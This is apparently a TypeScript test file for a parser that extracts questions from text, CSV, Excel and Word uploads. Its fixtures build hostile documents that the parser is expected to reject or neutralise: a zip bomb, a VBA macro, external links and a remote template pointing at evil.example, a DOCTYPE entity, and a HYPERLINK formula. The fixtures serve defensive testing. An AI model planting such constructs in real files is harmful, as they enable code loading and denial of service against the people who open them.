import { strToU8, zipSync } from "fflate";
import { expect, test } from "vitest";
import { questionsOutcome } from "./read-in-worker";

const bytes = (text: string) => new TextEncoder().encode(text);
const relations = (more = "") => strToU8(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://x/worksheet" Target="worksheets/sheet1.xml"/>${more}</Relationships>`);
const workbook = (rows: string, more: Record<string, Uint8Array> = {}, relation = "") =>
  zipSync({
    "xl/workbook.xml": strToU8('<workbook xmlns:r="r"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'),
    "xl/_rels/workbook.xml.rels": relations(relation), "xl/worksheets/sheet1.xml": strToU8(`<worksheet><sheetData>${rows}</sheetData></worksheet>`), ...more,
  });
const cell = (text: string) => `<c t="inlineStr"><is><t>${text}</t></is></c>`;
const row = (...cells: string[]) => `<row>${cells.join("")}</row>`;
const letter = (body: string, more: Record<string, Uint8Array> = {}) => zipSync({ "word/document.xml": strToU8(`<w:document xmlns:w="w"><w:body>${body}</w:body></w:document>`), ...more });
const paragraph = (text: string, numbered = false) => `<w:p>${numbered ? '<w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr>' : ""}<w:r><w:t>${text}</w:t></w:r></w:p>`;

test("forty questions come out of a text, a table, a workbook and a letter, and nothing of who wrote them", () => {
  const all = Array.from({ length: 40 }, (_, n) => `Which format is meant in case ${n}?`);
  const texts = (outcome: ReturnType<typeof questionsOutcome>) => ("questions" in outcome ? outcome.questions.map(({ text }) => text) : outcome);
  expect(texts(questionsOutcome(bytes(all.map((one, n) => `${n + 1}. ${one}`).join("\n")), "a.txt"))).toEqual(all);
  expect(texts(questionsOutcome(bytes(`No;Question\n${all.map((one, n) => `${n + 1};"${one}"`).join("\n")}`), "a.csv"))).toEqual(all);
  expect(texts(questionsOutcome(workbook([row(cell("Requirement"), cell("Question")), ...all.map((one) => row(cell("1.1"), cell(one)))].join("")), "a.xlsx"))).toEqual(all);
  const author = { "docProps/core.xml": strToU8("<creator>Laura Priede</creator>") };
  expect(texts(questionsOutcome(letter(paragraph("Dear all,") + all.map((one) => paragraph(one, true)).join(""), author), "a.docx"))).toEqual(all);
  expect(texts(questionsOutcome(letter(`<w:tbl>${[["Question"], ...all.map((one) => [one])].map(([one]) => `<w:tr><w:tc>${paragraph(one ?? "")}</w:tc></w:tr>`).join("")}</w:tbl>`), "a.docx"))).toEqual(all);
});

test("what a tracked change took out is not asked", () => {
  const outcome = questionsOutcome(letter(`<w:p><w:r><w:t>Is it </w:t></w:r><w:del w:author="Laura"><w:r><w:delText>our NetSense</w:delText></w:r></w:del><w:ins><w:r><w:t>enough?</w:t></w:r></w:ins></w:p>`), "a.docx");
  expect(outcome).toEqual({ questions: [{ text: "Is it enough?", about: "" }] });
});

test("hostile files are refused for what they are", () => {
  const trouble = (file: Uint8Array, name = "a.xlsx") => {
    const outcome = questionsOutcome(file, name);
    return "trouble" in outcome ? outcome.trouble : outcome;
  };
  expect(trouble(zipSync({ "xl/media/a": new Uint8Array(41_000_000) }, { level: 1 }))).toBe("bomb");
  expect(trouble(workbook(row(cell("Why?")), { "xl/vbaProject.bin": strToU8("x") }))).toBe("acts");
  expect(trouble(workbook(row(cell("Why?")), {}, '<Relationship Id="r9" Type="http://x/externalLinkPath" Target="http://evil.example/a" TargetMode="External"/>'))).toBe("acts");
  expect(trouble(letter(paragraph("Why?"), { "word/_rels/settings.xml.rels": relations('<Relationship Id="r9" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>') }), "a.docx")).toBe("acts");
  expect(trouble(workbook("<row/>".repeat(1_000_000)))).toBe("too-many-rows");
  expect(trouble(bytes("=1\n".repeat(3000)), "a.csv")).toBe("too-many-rows");
  expect(trouble(bytes(Array.from({ length: 101 }, (_, n) => `${n}. Why ${n}?`).join("\n")), "a.txt")).toBe("too-many-questions");
  expect(trouble(letter('<!DOCTYPE x [<!ENTITY a "b">]>'), "a.docx")).toBe("broken");
  expect(trouble(bytes("PK no zip"), "a.docx")).toBe("broken");
  expect(trouble(bytes("x"), "a.exe")).toBe("kind");
  expect(trouble(bytes(" \n"), "a.txt")).toBe("nothing-inside");
  expect(trouble(new Uint8Array(5_000_001), "a.txt")).toBe("too-large");
  expect(trouble(new Uint8Array([0xff, 0xfe, 0xfd]), "a.txt")).toBe("broken");
});

test("a formula is read as the text that it shows, never as a formula", () => {
  expect(questionsOutcome(workbook(row(cell("Question")) + row('<c t="str"><f>HYPERLINK("http://evil.example")</f><v>Is this enough?</v></c>')), "a.xlsx")).toEqual({ questions: [{ text: "Is this enough?", about: "" }] });
});
